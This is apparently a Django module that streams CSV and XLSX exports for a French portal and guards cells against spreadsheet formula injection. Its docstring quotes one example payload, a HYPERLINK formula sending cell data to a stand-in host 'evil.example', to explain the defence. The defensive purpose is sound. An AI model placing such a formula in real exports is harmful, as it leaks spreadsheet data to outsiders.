"""CSV and XLSX files: every spreadsheet the portal writes goes through this module.

- **Streaming.** A CSV is a ``StreamingHttpResponse`` fed a few hundred rows at a time; an
  XLSX is written by openpyxl's write-only mode, which keeps no cell in memory, into a
  temporary file. Rows come from a generator (``values_list().iterator()`` underneath), so
  memory does not grow with the number of rows.
- **Formula injection.** A text cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a
  carriage return (after any leading blanks) would be read by a spreadsheet as a formula: an
  organisation named ``=HYPERLINK("https://evil.example/?d="&A1;"Cliquez ici")`` would become
  a live link that leaks the sheet. ``neutralise`` prefixes such text with an apostrophe
  (``'``), as OWASP recommends, so it is shown as text. Only text is touched: numbers, amounts
  and dates stay numbers and dates, negative ones included (``-12,50`` in a CSV is an amount
  the portal formatted, not a formula).
- **French spreadsheets.** CSV files are UTF-8 with a byte-order mark and semicolons, amounts
  with a decimal comma; XLSX amounts are numbers formatted in euros.
"""

import csv
import tempfile
from collections.abc import Iterable, Iterator, Sequence
from datetime import date, datetime
from decimal import Decimal
from typing import IO

from django.http import HttpResponse, StreamingHttpResponse
from django.utils import timezone, translation

XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
CSV_TYPE = "text/csv; charset=utf-8"
EURO_FORMAT = '#,##0.00 "€"'
FORMULA_TRIGGERS = frozenset("=+-@\t\r")
CSV_CHUNK_ROWS = 500
NUMBERS = (int, float, Decimal)


def neutralise(text: str) -> str:
    """``text``, prefixed with an apostrophe when a spreadsheet would take it for a formula."""
    if text and (text[0] in FORMULA_TRIGGERS or text.lstrip()[:1] in FORMULA_TRIGGERS):
        return "'" + text
    return text


def csv_value(value) -> str:
    """One CSV cell: dates in French, amounts with a decimal comma, text neutralised."""
    if value is None:
        return ""
    if isinstance(value, datetime):
        return timezone.localtime(value).strftime("%d/%m/%Y %H:%M")
    if isinstance(value, date):
        return value.strftime("%d/%m/%Y")
    if isinstance(value, Decimal):
        return f"{value:.2f}".replace(".", ",")
    if isinstance(value, NUMBERS):
        return str(value)
    return neutralise(str(value))


def xlsx_value(value):
    """One XLSX cell: numbers and dates stay typed (local time), anything else is safe text."""
    if value is None or isinstance(value, (*NUMBERS, date)):
        if isinstance(value, datetime):
            return timezone.localtime(value).replace(tzinfo=None)
        return value
    return neutralise(str(value))


class _Echo:
    """A file-like object whose ``write`` returns what it is given (for ``csv.writer``)."""

    def write(self, value: str) -> str:
        return value


def csv_chunks(headers: Sequence, rows: Iterable[Sequence]) -> Iterator[str]:
    """The CSV text, a few hundred rows at a time, starting with the byte-order mark."""
    writer = csv.writer(_Echo(), delimiter=";")
    yield "\ufeff" + writer.writerow([neutralise(str(header)) for header in headers])
    chunk = []
    for row in rows:
        chunk.append(writer.writerow([csv_value(value) for value in row]))
        if len(chunk) >= CSV_CHUNK_ROWS:
            yield "".join(chunk)
            chunk = []
    if chunk:
        yield "".join(chunk)


def write_csv(target: IO[bytes], headers: Sequence, rows: Iterable[Sequence]) -> None:
    """Write the CSV to a binary file (a background export)."""
    for chunk in csv_chunks(headers, rows):
        target.write(chunk.encode("utf-8"))


def csv_response(
    filename: str, headers: Sequence, rows: Iterable[Sequence]
) -> StreamingHttpResponse:
    """A CSV that French spreadsheet software opens as is, streamed row by row (in the
    language of the request, which is no longer active once the view has returned)."""
    language = translation.get_language()

    def body():
        with translation.override(language):
            for chunk in csv_chunks(headers, rows):
                yield chunk.encode("utf-8")

    response = StreamingHttpResponse(body(), content_type=CSV_TYPE)
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response


class XlsxSheet:
    """One sheet of a write-only workbook: rows are written as they come, never kept.

    ``euros``: whether ``Decimal`` values are amounts, shown in euros (a sheet of indicators
    holds plain decimal numbers)."""

    def __init__(self, worksheet, *, euros: bool = True):
        self.worksheet = worksheet
        self.euros = euros
        self._bold = None

    def _cell(self, value, *, bold: bool):
        from openpyxl.cell import WriteOnlyCell
        from openpyxl.styles import Font

        cell = WriteOnlyCell(self.worksheet, value=value)
        if self.euros and isinstance(value, Decimal):
            cell.number_format = EURO_FORMAT
        if bold:
            self._bold = self._bold or Font(bold=True)
            cell.font = self._bold
        return cell

    def append(self, values: Sequence, *, bold: bool = False) -> None:
        """Append one row; amounts (``Decimal``) are formatted in euros, text neutralised."""
        row = []
        for raw in values:
            value = xlsx_value(raw)
            if bold or (self.euros and isinstance(value, Decimal)):
                row.append(self._cell(value, bold=bold))
            else:
                row.append(value)
        self.worksheet.append(row)


class XlsxWorkbook:
    """A write-only openpyxl workbook whose sheets are ``XlsxSheet``: the one way the portal
    writes XLSX, so that every cell goes through ``xlsx_value``."""

    def __init__(self):
        from openpyxl import Workbook

        self.workbook = Workbook(write_only=True)

    def sheet(
        self,
        title: str,
        *,
        widths: Sequence[int] = (),
        freeze: str | None = None,
        euros: bool = True,
    ) -> XlsxSheet:
        """A new sheet; column widths and frozen panes must be set before the first row."""
        from openpyxl.utils import get_column_letter

        worksheet = self.workbook.create_sheet(str(title)[:31])
        for index, width in enumerate(widths, 1):
            worksheet.column_dimensions[get_column_letter(index)].width = width
        if freeze:
            worksheet.freeze_panes = freeze
        return XlsxSheet(worksheet, euros=euros)

    def save(self, target: IO[bytes]) -> None:
        self.workbook.save(target)


def write_xlsx(
    target: IO[bytes], sheet_title: str, headers: Sequence, rows: Iterable[Sequence]
) -> None:
    """Write a one-sheet workbook (bold headers, frozen first row) to a binary file."""
    workbook = XlsxWorkbook()
    sheet = workbook.sheet(sheet_title, freeze="A2")
    sheet.append([str(header) for header in headers], bold=True)
    for row in rows:
        sheet.append(row)
    workbook.save(target)


def xlsx_bytes(sheet_title: str, headers: Sequence, rows: Iterable[Sequence]) -> bytes:
    """The workbook of ``write_xlsx`` as bytes (small exports and tests)."""
    with tempfile.TemporaryFile() as handle:
        write_xlsx(handle, sheet_title, headers, rows)
        handle.seek(0)
        return handle.read()


def _xlsx_http_response(data: bytes, filename: str) -> HttpResponse:
    response = HttpResponse(data, content_type=XLSX_TYPE)
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response


def xlsx_response(filename: str, sheet_title: str, headers, rows) -> HttpResponse:
    """A one-sheet XLSX. openpyxl's write-only mode keeps no row in memory; the compressed
    result is small (about 50 bytes a row), so it is sent in one piece."""
    return _xlsx_http_response(xlsx_bytes(sheet_title, headers, rows), filename)


def workbook_response(workbook: XlsxWorkbook, filename: str) -> HttpResponse:
    """A workbook built with ``XlsxWorkbook`` (several sheets)."""
    with tempfile.TemporaryFile() as handle:
        workbook.save(handle)
        handle.seek(0)
        return _xlsx_http_response(handle.read(), filename)
